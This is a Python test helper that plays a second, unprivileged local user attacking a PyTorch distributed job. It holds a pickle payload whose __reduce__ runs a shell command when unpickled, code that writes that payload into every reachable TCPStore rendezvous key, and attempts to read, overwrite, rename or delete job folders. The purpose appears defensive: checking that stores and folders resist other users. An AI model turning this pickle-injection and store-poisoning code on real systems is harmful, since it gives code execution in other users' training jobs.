"""Another user of this machine, who may see and connect to what is there, and what that user tries."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from typing import Any

import psutil

NOBODY = 65534

TOOLS = f"""
import base64, json, os, pickle, socket, sys, threading, time
from datetime import timedelta
from torch.distributed import TCPStore
given = json.loads(sys.argv[1])
# Only now: another user may not be able to read this Python.
os.setgroups([])
os.setresgid({NOBODY}, {NOBODY}, {NOBODY})
os.setresuid({NOBODY}, {NOBODY}, {NOBODY})
os.chdir("/")
"""
TOOLS += """


class Payload:
    def __reduce__(self):
        return os.system, (f"id -u > {given['marker']}",)


def say(what):
    print(json.dumps(what), flush=True)
"""

STORES = (
    TOOLS
    + """
reached = []


def write(port):
    store = TCPStore("127.0.0.1", port, is_master=False, timeout=timedelta(seconds=1))
    store.set("probe", "written")
    reached.append(port)
    names = store.list_keys() if hasattr(store, "list_keys") else []
    names = [name.decode() if isinstance(name, bytes) else name for name in names]
    for name in {*names, *given["keys"]}:
        if name.startswith("torch.rendezvous."):
            store.set(name, base64.b64encode(pickle.dumps(Payload())).decode())


os.dup2(os.open(os.devnull, os.O_WRONLY), 2)  # torch tells at length why it can't connect
# What isn't a store may keep its client waiting for ever.
threads = [threading.Thread(target=write, args=(port,), daemon=True) for port in given["ports"]]
for thread in threads:
    thread.start()
until = time.monotonic() + 4
for thread in threads:
    thread.join(max(0.0, until - time.monotonic()))
say(reached)
os._exit(0)
"""
)
"""Writes a pickle with code into every store that answers; says which ports did."""

FILES = (
    TOOLS
    + """
done = []
for folder in given["folders"]:
    for name, attempt in {
        "list": lambda: os.listdir(folder),
        "read": lambda: open(os.path.join(folder, "job"), "rb").read(),
        "write": lambda: open(os.path.join(folder, "task"), "wb").write(pickle.dumps(Payload())),
        "replace": lambda: os.rename(folder, folder + ".mine"),
        "delete": lambda: os.rmdir(folder),
    }.items():
        try:
            attempt()
        except PermissionError:
            continue
        done.append([name, folder])
say(done)
"""
)
"""Tries to list, read, write and replace folders; says what worked."""


def why_not() -> str | None:
    """Say why nobody can be played here; None where it works."""
    if not hasattr(os, "geteuid") or os.geteuid() != 0:
        return "needs root, to act as another user"
    return None


def as_nobody(program: str, **given: Any) -> subprocess.Popen[str]:
    """Start `program` as the user nobody."""
    return subprocess.Popen(
        [sys.executable, "-c", program, json.dumps(given)],
        stdout=subprocess.PIPE,
        text=True,
    )


def listeners(pid: int) -> list[tuple[str, int]]:
    """Return where a process and its children listen, as (address, port)."""
    found = []
    for process in (psutil.Process(pid), *psutil.Process(pid).children(recursive=True)):
        try:
            connections = process.net_connections("inet")
        except psutil.Error:
            continue
        found += [(c.laddr.ip, c.laddr.port) for c in connections if c.status == psutil.CONN_LISTEN]
    return sorted(set(found))
